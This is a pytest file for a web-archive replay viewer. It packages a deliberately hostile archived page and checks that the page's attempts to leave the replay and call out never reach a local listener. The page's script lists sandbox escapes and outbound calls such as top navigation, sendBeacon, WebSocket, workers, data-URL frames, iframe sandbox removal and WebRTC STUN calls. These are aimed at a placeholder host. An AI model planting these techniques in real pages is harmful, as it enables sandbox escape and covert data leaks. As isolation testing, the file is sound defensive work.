"""A page that wants out of the replay: nothing of it reaches anybody, and the window stays."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from outside import Outside, outside
from playwright.sync_api import Browser, BrowserContext, Frame, Page
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from zancrawler.replay.package import open_package
from zancrawler.replay.server import serving
from zancrawler.replay.viewer import Viewer

pytestmark = pytest.mark.slow

URL = "http://hostile.example/"
PAGE = """<!doctype html>
<meta charset="utf-8"><title>hostile</title>
<meta http-equiv="refresh" content="2; url=OUT/refresh">
<link rel="dns-prefetch" href="OUT"><link rel="prefetch" href="OUT/prefetch">
<link rel="stylesheet" href="OUT/sheet.css">
<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["OUT/speculated"]}],
 "prerender": [{"source": "list", "urls": ["OUT/prerendered"]}]}
</script>
<h1>A page</h1>
<img src="OUT/image.png"><a href="OUT/linked" target="_top" ping="OUT/ping">on</a>
<form id="top" action="OUT/form-top" method="post" target="_top"></form>
<form id="self" action="OUT/form" method="post"></form>
<iframe src="OUT/frame"></iframe>
<iframe srcdoc="<script>fetch('OUT/srcdoc'); top.location = 'OUT/srcdoc-top'</script>"></iframe>
<script src="OUT/script.js"></script>
<script>
const tries = {
  top: () => { top.location = "OUT/top"; },
  parents: () => { parent.parent.location.replace("OUT/parents"); },
  open: () => { window.open("OUT/open"); },
  openTop: () => { window.open("OUT/open-top", "_top"); },
  fetch: () => fetch("OUT/fetch", { mode: "no-cors" }),
  beacon: () => navigator.sendBeacon("OUT/beacon", "text"),
  socket: () => new WebSocket("ws" + "OUT/socket".slice(4)),
  events: () => new EventSource("OUT/events"),
  image: () => { new Image().src = "OUT/beacon.png"; },
  link: () => document.querySelector("a").click(),
  formTop: () => document.getElementById("top").submit(),
  form: () => document.getElementById("self").submit(),
  worker: () => new Worker(URL.createObjectURL(new Blob(
    ["fetch('OUT/worker', { mode: 'no-cors' }); new WebSocket('ws' + 'OUT/ws'.slice(4))"]))),
  serviceWorker: () => navigator.serviceWorker.register("OUT/worker.js"),
  data: () => {
    const frame = document.createElement("iframe");
    frame.src = "data:text/html,<script>fetch('OUT/data');location='OUT/moved'<" + "/script>";
    document.body.append(frame);
  },
  calls: async () => {
    const port = new URL("OUT").port;
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    call.createDataChannel("out");
    await call.setLocalDescription(await call.createOffer());
  },
  sandbox: () => { top.document.querySelector("iframe").removeAttribute("sandbox"); },
  frame: () => { parent.frameElement.removeAttribute("sandbox"); },
};
const name = document.URL.split("#")[1];
fetch("/tried/" + name);
if (name in tries) tries[name]();
setTimeout(() => { location = "OUT/location"; }, 1500);
</script>
"""
TRIES = re.findall(r"^  (\w+): (?:async )?\(\) =>", PAGE, flags=re.MULTILINE)
PATIENCE = 8
"""Seconds that the slowest way out gets once all are tried: a header that waits for three."""


@pytest.fixture(scope="module")
def world() -> Iterator[Outside]:
    with outside() as listening:
        yield listening


@pytest.fixture(scope="module")
def package(world: Outside, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Somebody's WACZ with the page in it, whose headers would lead away as well."""
    folder = tmp_path_factory.mktemp("hostile")
    out = f"http://127.0.0.1:{world.port}"
    headers = [
        ("Content-Type", "text/html; charset=utf-8"),
        ("Link", f"<{out}/header.css>; rel=preload; as=style, <{out}>; rel=preconnect"),
        ("Refresh", f"3; url={out}/refreshed"),
        ("Content-Security-Policy", f"img-src 'none'; report-uri {out}/report"),
    ]
    warc = folder / "hostile.warc.gz"
    with warc.open("wb") as file:
        writer = WARCWriter(file, gzip=True)
        record = writer.create_warc_record(
            URL,
            "response",
            payload=io.BytesIO(PAGE.replace("OUT", out).encode()),
            http_headers=StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1"),
            warc_headers_dict={"WARC-Date": "2026-01-02T03:04:05Z"},
        )
        writer.write_record(record)
    path = folder / "hostile.wacz"
    wacz = Path(sys.executable).with_name("wacz")
    subprocess.run([wacz, "create", "-o", path, warc], check=True, capture_output=True)
    return path


@dataclass(frozen=True)
class Shown:
    home: str
    context: BrowserContext
    page: Page
    collection: str


@pytest.fixture(scope="module")
def shown(browser: Browser, viewer: Viewer, package: Path) -> Iterator[Shown]:
    opened = open_package(package)
    with serving(viewer, lambda: opened, 0) as home:
        context = browser.new_context()
        page = context.new_page()
        asks = re.compile(r"/replay/w/api/c/(id-[0-9a-f]+)/")
        with page.expect_request(asks, timeout=60_000) as found:
            page.goto(f"{home}#url={URL}&ts=20260102030405")
        collection = asks.search(found.value.url)
        assert collection
        yield Shown(home, context, page, collection[1])
        context.close()
    opened.file.close()


TRY = """([coll, form, url, names]) => {
  for (const name of names) {
    const frame = document.createElement("iframe");
    frame.src = `/replay/w/${coll}/20260102030405${form}/${url}#${name}`;
    document.body.append(frame);
  }
}"""


def viewer_in(page: Page) -> Frame:
    return next(frame for frame in page.frames if "/replay/?" in frame.url)


@pytest.mark.parametrize("form", ["mp_", "id_"])
def test_nothing_reaches_anybody(shown: Shown, world: Outside, form: str) -> None:
    """`id_` is the page as it came: the viewer puts none of its own functions before the page's."""
    names = [name for name in TRIES if name != "calls"]
    asked: list[str] = []
    shown.page.on("request", lambda request: asked.append(request.url))
    viewer_in(shown.page).evaluate(TRY, [shown.collection, form, URL, names])
    for _ in range(1_800):
        shown.page.wait_for_timeout(100)
        tried = {url.rpartition("/")[2] for url in asked if "/tried/" in url}
        if tried >= set(names):
            break
    assert tried >= set(names)
    shown.page.wait_for_timeout(PATIENCE * 1000)
    assert shown.page.url.startswith(shown.home)
    assert shown.context.pages == [shown.page]
    assert world.reached == []


def test_nobody_is_called(shown: Shown, world: Outside) -> None:
    """The last, since Chromium ends a page that calls where it may not, and the window with it."""
    viewer_in(shown.page).evaluate(TRY, [shown.collection, "id_", URL, ["calls"]])
    time.sleep(2)
    assert world.reached == []
